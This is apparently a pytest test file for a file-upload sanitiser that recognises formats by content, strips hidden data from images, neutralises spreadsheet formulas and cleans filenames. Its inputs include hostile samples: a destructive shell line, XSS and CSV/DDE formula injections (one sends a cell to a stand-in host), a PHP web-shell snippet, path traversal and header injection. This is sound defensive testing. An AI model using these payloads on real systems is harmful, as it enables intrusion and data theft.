"""What a file is, by its content; what is refused, and what is left of what is kept (R17)."""

import io
import subprocess

import pillow_heif
import pytest
from PIL import Image

from situations.fichiers.formats import images, pixels, textes
from situations.fichiers.formats.textes import FORMULE
from situations.fichiers.noms import nom_libre, nom_propre, nom_sur_disque
from situations.fichiers.preparation import preparer
from situations.fichiers.reconnaissance import reconnaitre
from situations.fichiers.refus import TROP, FichierRefuse
from tests import fichiers

pytestmark = pytest.mark.rule("R17")


@pytest.fixture
def prepare(tmp_path):
    """``prepare("name", bytes)``: the whole way, process apart included; returns the ``Preparation``."""

    def aller(nom, octets):
        source = tmp_path / "source"
        source.write_bytes(octets)
        return preparer(source, nom, tmp_path)

    return aller


@pytest.fixture
def refaire(tmp_path):
    """``refaire(module, bytes)``: the work of the process apart, done here; returns what is kept, open."""

    def chemins(octets):
        source, sortie = tmp_path / "source", tmp_path / "sortie"
        source.write_bytes(octets)
        return source, sortie, tmp_path / "vignette"

    def aller(module, octets):
        _, sortie, _ = ou = chemins(octets)
        module.refaire(*ou)
        return io.BytesIO(sortie.read_bytes())

    aller.chemins = chemins
    return aller


# --- Recognised by its content -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("nom", "octets", "attendu"),
    [
        ("photo.pdf", fichiers.image("PNG"), "images"),
        ("photo", fichiers.image("JPEG"), "images"),
        ("a.txt", fichiers.image("GIF", mode="P", couleur=0), "images"),
        ("a.exe", fichiers.image("WEBP"), "images"),
        ("rapport.doc", fichiers.pdf(), "pdf"),
        ("x.zip", fichiers.docx(), "bureautique"),
        ("notes.TXT", "Réunion à 10 h".encode("cp1252"), "textes"),
        ("scan", fichiers.image("TIFF"), "images"),
        ("dessin", fichiers.image("BMP"), "images"),
        ("photo", fichiers.image("AVIF", (64, 64)), "images"),
        ("memo.txt", fichiers.wav(), "medias"),
        ("memo.txt", fichiers.mp4(), "medias"),
    ],
)
def test_a_file_is_what_it_holds_and_not_what_its_name_says(tmp_path, nom, octets, attendu):
    (tmp_path / "f").write_bytes(octets)
    assert reconnaitre(tmp_path / "f", nom) == attendu


@pytest.mark.parametrize(
    ("nom", "octets", "phrase"),
    [
        ("facture.pdf", b"MZ\x90\x00" + bytes(400), "C’est un programme"),
        ("facture.pdf", b"\x7fELF" + bytes(400), "C’est un programme"),
        ("notes.txt", b"#!/bin/sh\nrm -rf /", "C’est un programme"),
        ("photo.jpg", b"", "vide"),
        ("logo.svg", b'<svg xmlns="x"><script>alert(1)</script></svg>', "SVG"),
        ("logo.txt", b'\xef\xbb\xbf <?xml version="1.0"?><svg onload="alert(1)"/>', "SVG"),
        ("page.html", b"<!doctype html><p>Bonjour", "page web"),
        ("page.txt", b"Bonjour <script>alert(1)</script>", "page web"),
        ("donnees.xml", b"<donnees/>", "XML"),
        ("script.bat", b"@echo off", "n’est pas accept"),
        ("tout.zip", fichiers.archive({"a.txt": "a"}), "archive"),
        ("tout.docx", b"Rar!\x1a\x07\x00" + bytes(100), "archive"),
        ("vieux.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "ancien format"),
        ("notes.txt", b"Bonjour\x00\x01\x02", "n’en est pas un"),
        ("notes.txt", b"Bonjour\n%PDF-1.7\n", "deux formats"),
        ("son.flac", b"fLaC" + bytes(300), "n’est pas accept"),
        (
            "rapport.pages",
            fichiers.archive({"Index/Document.iwa": b"x"}),
            "choisissez «\u00a0Exporter vers\u00a0», puis Word",
        ),
        ("diapo.key", fichiers.archive({"Index/Document.iwa": b"x"}), "puis PowerPoint ou PDF"),
        ("tableau.numbers", fichiers.archive({"Index.zip": b"x"}), "Un document Numbers .* puis Excel"),
        ("renomme.zip", fichiers.archive({"Index/Document.iwa": b"x"}), "Un document Pages"),
        ("cle.key", b"-----BEGIN", "Un document Keynote"),
        ("notes.txt", b"a" * (5 * 1024 * 1024 + 1), "5\u00a0Mo"),
    ],
)
def test_what_is_not_a_production_is_refused_with_a_sentence(prepare, nom, octets, phrase):
    with pytest.raises(FichierRefuse, match=phrase):
        prepare(nom, octets)


def test_a_text_is_kept_byte_for_byte_under_the_extension_of_a_text(prepare):
    octets = "nom;montant\r\nDurand;-12,50\r\n".encode("cp1252")
    preparee = prepare("Règlements.CSV", octets)
    assert (preparee.nom, preparee.type_mime) == ("Règlements.csv", "text/csv")
    assert preparee.chemin.read_bytes() == octets
    assert preparee.vignette is None


@pytest.mark.parametrize(
    "formule",
    [
        b"=cmd|' /C calc'!A0",
        b"\"=cmd|'\n/C calc'!A0\"",
        b"  +cmd|'/C calc'!A0",
        b"@SUM(1+1)*cmd|' /C calc'!A0",
        b'=DDE("soffice";"/tmp/a.ods";"a1")',
        b'=WEBSERVICE("https://ailleurs.example.org/"&A1)',
    ],
)
def test_a_cell_that_acts_becomes_a_text_and_that_is_said(refaire, formule):
    _, sortie, _ = ou = refaire.chemins(b"Montant;-12,50\n" + formule + b";2\n")
    assert textes.refaire(*ou, "csv").notes == (FORMULE,)
    ici = len(formule) - len(formule.lstrip(b'" '))
    attendu = formule[:ici] + b"'" + formule[ici:]
    assert sortie.read_bytes() == b"Montant;-12,50\n" + attendu + b";2\n"


def test_a_cell_that_only_computes_is_left_as_it_is(prepare):
    octets = "Montant;=B2*1,2;-3;tél. 0123\n".encode("utf-16")
    preparee = prepare("tableau.csv", octets)
    assert preparee.notes == () and preparee.chemin.read_bytes() == octets


# --- Pictures ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("format_", "mode"), [("JPEG", "RGB"), ("JPEG", "L"), ("WEBP", "RGB"), ("WEBP", "RGBA")])
def test_a_picture_that_is_nothing_but_pixels_is_kept_byte_for_byte(refaire, format_, mode):
    bruit = Image.effect_noise((60, 40), 90).convert(mode)
    sortie = io.BytesIO()
    bruit.save(sortie, format_)
    une_fois = refaire(images, sortie.getvalue()).getvalue()
    assert refaire(images, une_fois).getvalue() == une_fois


@pytest.mark.parametrize(
    "cacher",
    [
        lambda octets: octets + b"MZ hidden",
        lambda octets: octets[:2] + b"\xff\xfe\x00\x07MZ hi" + octets[2:],
        lambda octets: octets[:2] + b"\xff\xe1\x00\x08Exif\x00\x00" + octets[2:],
    ],
)
def test_what_hides_beside_the_pixels_of_a_jpeg_goes(refaire, cacher):
    propre = fichiers.image("JPEG", couleur="red")
    assert pixels.seuls(propre, "JPEG")
    assert not pixels.seuls(cacher(propre), "JPEG")
    kept = refaire(images, cacher(propre)).getvalue()
    assert b"MZ" not in kept
    assert b"Exif" not in kept


def test_a_photo_stands_upright_and_says_nothing_of_place_date_or_device(refaire):
    kept = Image.open(refaire(images, fichiers.photo((40, 20))))
    assert kept.format == "JPEG"
    assert kept.size == (20, 40)
    assert not kept.getexif()
    assert not {"exif", "comment", "icc_profile", "xmp"} & kept.info.keys()


def test_a_picture_is_reduced_to_the_longest_side(refaire, tmp_path):
    kept = Image.open(refaire(images, fichiers.image("JPEG", (4000, 1000))))
    assert kept.size == (images.COTE, 600)
    assert max(Image.open(tmp_path / "vignette").size) == images.COTE_VIGNETTE


def test_what_hides_behind_or_before_the_pixels_does_not_survive(refaire):
    hidden = b"PK\x03\x04 <?php system($_GET['c']); ?> MZ"
    for octets in (fichiers.image("PNG") + hidden, fichiers.image("JPEG", comment=hidden) + hidden):
        assert b"php" not in refaire(images, octets).getvalue()


@pytest.mark.parametrize(
    ("octets", "attendu"),
    [
        (fichiers.image("PNG", mode="RGBA", couleur=(0, 0, 0, 0)), ("PNG", "RGBA")),
        (fichiers.image("PNG", mode="I;16", couleur=65535), ("PNG", "L")),
        (fichiers.image("GIF", mode="P", couleur=0), ("PNG", "RGB")),
        (fichiers.image("WEBP"), ("WEBP", "RGB")),
        (fichiers.image("TIFF"), ("PNG", "RGB")),
        (fichiers.image("TIFF", compression="tiff_lzw"), ("PNG", "RGB")),
        (fichiers.image("BMP"), ("PNG", "RGB")),
        (fichiers.image("AVIF", (64, 64)), ("JPEG", "RGB")),
        (fichiers.image("JPEG", mode="CMYK", couleur=(0, 0, 0, 0)), ("JPEG", "RGB")),
        (fichiers.image("JPEG", mode="L", couleur=255), ("JPEG", "L")),
    ],
)
def test_every_kind_of_picture_is_drawn_again(refaire, octets, attendu):
    kept = Image.open(refaire(images, octets))
    assert (kept.format, kept.mode) == attendu


def test_the_photo_of_a_phone_becomes_a_jpeg_that_everybody_opens(prepare, refaire, tmp_path):
    pillow_heif.register_heif_opener()
    octets = fichiers.image("HEIF", (64, 64))
    for marque in (b"heic", b"heix", b"hevc", b"mif1", b"MiHB"):
        (tmp_path / "f").write_bytes(octets[:8] + marque + octets[12:])
        assert reconnaitre(tmp_path / "f", "IMG_0001.HEIC") == "images", marque
        assert Image.open(refaire(images, (tmp_path / "f").read_bytes())).format == "JPEG", marque
    photo = prepare("IMG_0001.HEIC", octets[:8] + b"MiHE" + octets[12:])
    assert (photo.nom, Image.open(photo.chemin).format) == ("IMG_0001.jpg", "JPEG")


def test_of_a_file_of_several_pictures_the_first_one_is_kept_and_that_is_said(refaire):
    pages = [Image.new("RGB", (9, 9), couleur) for couleur in ("red", "blue")]
    for format_ in ("TIFF", "GIF", "WEBP"):
        sortie = io.BytesIO()
        pages[0].save(sortie, format_, save_all=True, append_images=pages[1:])
        assert images.refaire(*refaire.chemins(sortie.getvalue())).notes == (images.SEULE,)
    assert images.refaire(*refaire.chemins(fichiers.image("TIFF"))).notes == ()


@pytest.mark.parametrize("octets", [fichiers.image_immense(), fichiers.image_immense(60_000, 900)])
def test_an_immense_picture_is_refused_from_its_header(refaire, octets):
    assert len(octets) < 200
    with pytest.raises(FichierRefuse, match="trop grande"):
        refaire(images, octets)


@pytest.mark.parametrize("octets", [fichiers.photo((400, 200))[:300], b"\x89PNG\r\n\x1a\n" + bytes(200)])
def test_a_broken_picture_is_refused(refaire, octets):
    with pytest.raises(FichierRefuse, match="abîmée"):
        refaire(images, octets)


# --- The process apart ----------------------------------------------------------------------------------------


def test_a_picture_and_a_pdf_go_through_a_process_of_their_own(prepare):
    photo = prepare("Ma photo.png", fichiers.photo())
    assert (photo.nom, photo.type_mime) == ("Ma photo.jpg", "image/jpeg")
    assert Image.open(photo.vignette).size == (20, 40)
    document = prepare("facture.exe", fichiers.pdf())
    assert (document.nom, document.type_mime) == ("facture.pdf", "application/pdf")
    assert Image.open(document.vignette).size == (258, 360)


def test_a_process_that_dies_refuses_the_file_alone(prepare, monkeypatch):
    monkeypatch.setattr("situations.fichiers.preparation.SECONDES_AU_PLUS", 0.001)
    with pytest.raises(FichierRefuse) as refus:
        prepare("photo.png", fichiers.image())
    assert refus.value.message == TROP


def test_a_page_that_cannot_be_drawn_costs_the_thumbnail_alone(prepare, monkeypatch, tmp_path):
    """The answer is given before the page is drawn: the process may die of it."""

    def mourir(commande, **options):
        (tmp_path / "sortie").write_bytes(b"%PDF-")
        (tmp_path / "vignette").write_bytes(b"half of a picture")
        dit = b'{"type": "application/pdf", "extension": "pdf", "notes": []}'
        return subprocess.CompletedProcess(commande, -9, dit, b"")

    monkeypatch.setattr(subprocess, "run", mourir)
    preparee = prepare("a.pdf", fichiers.pdf())
    assert (preparee.type_mime, preparee.vignette) == ("application/pdf", None)


def test_the_process_apart_inherits_no_secret(prepare, monkeypatch):
    vu = {}

    def lancer(commande, **options):
        vu.update(options["env"])
        return subprocess.CompletedProcess(commande, 1, b"", b"")

    monkeypatch.setenv("SECRET_KEY", "secrète")
    monkeypatch.setattr(subprocess, "run", lancer)
    with pytest.raises(FichierRefuse):
        prepare("photo.png", fichiers.image())
    assert vu == {"LC_ALL": "C.UTF-8"}


# --- Names ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("nom", "attendu"),
    [
        ("Ma photo.HEIC", "Ma photo.jpg"),
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\Users\\moi\\été.jpeg", "été.jpg"),
        ("facture.pdf.exe", "facture.jpg"),
        ("rapport\u202efdp.exe", "rapportfdp.jpg"),
        ("/tmp/photo.png", "photo.jpg"),
        ("stage/../../photo.png", "photo.jpg"),
        ("Devis 12/03/2026.pdf", "Devis 12/03/2026.jpg"),
        ("Prix HT/TTC : combien ?.xlsx", "Prix HT/TTC : combien ?.jpg"),
        ('a"b\r\nSet-Cookie: c', "abSet-Cookie: c.jpg"),
        ("Bilan 12.03.2026", "Bilan 12.03.2026.jpg"),
        ("rapport.v2.final.pdf", "rapport.v2.final.jpg"),
        ("...", "fichier.jpg"),
        ("\u200b.png", "fichier.jpg"),
        ("x" * 300 + ".png", "x" * 120 + ".jpg"),
    ],
)
def test_a_name_keeps_its_words_and_nothing_that_deceives(nom, attendu):
    assert nom_propre(nom, "jpg") == attendu


def test_two_files_of_a_fiche_never_have_the_same_name():
    assert nom_libre("photo.jpg", []) == "photo.jpg"
    assert nom_libre("photo.jpg", ["Photo.JPG", "photo (2).jpg"]) == "photo (3).jpg"
    assert nom_libre("12/03.pdf", ["12-03.pdf"]) == "12/03 (2).pdf"


@pytest.mark.parametrize(
    ("nom", "attendu"),
    [
        ("Devis 12/03/2026.pdf", "Devis 12-03-2026.pdf"),
        ("Combien ?.pdf", "Combien -.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("lpt1.tar.pdf", "_lpt1.tar.pdf"),
        ("Console.pdf", "Console.pdf"),
    ],
)
def test_a_name_that_leaves_the_site_fits_any_disk(nom, attendu):
    assert nom_sur_disque(nom) == attendu
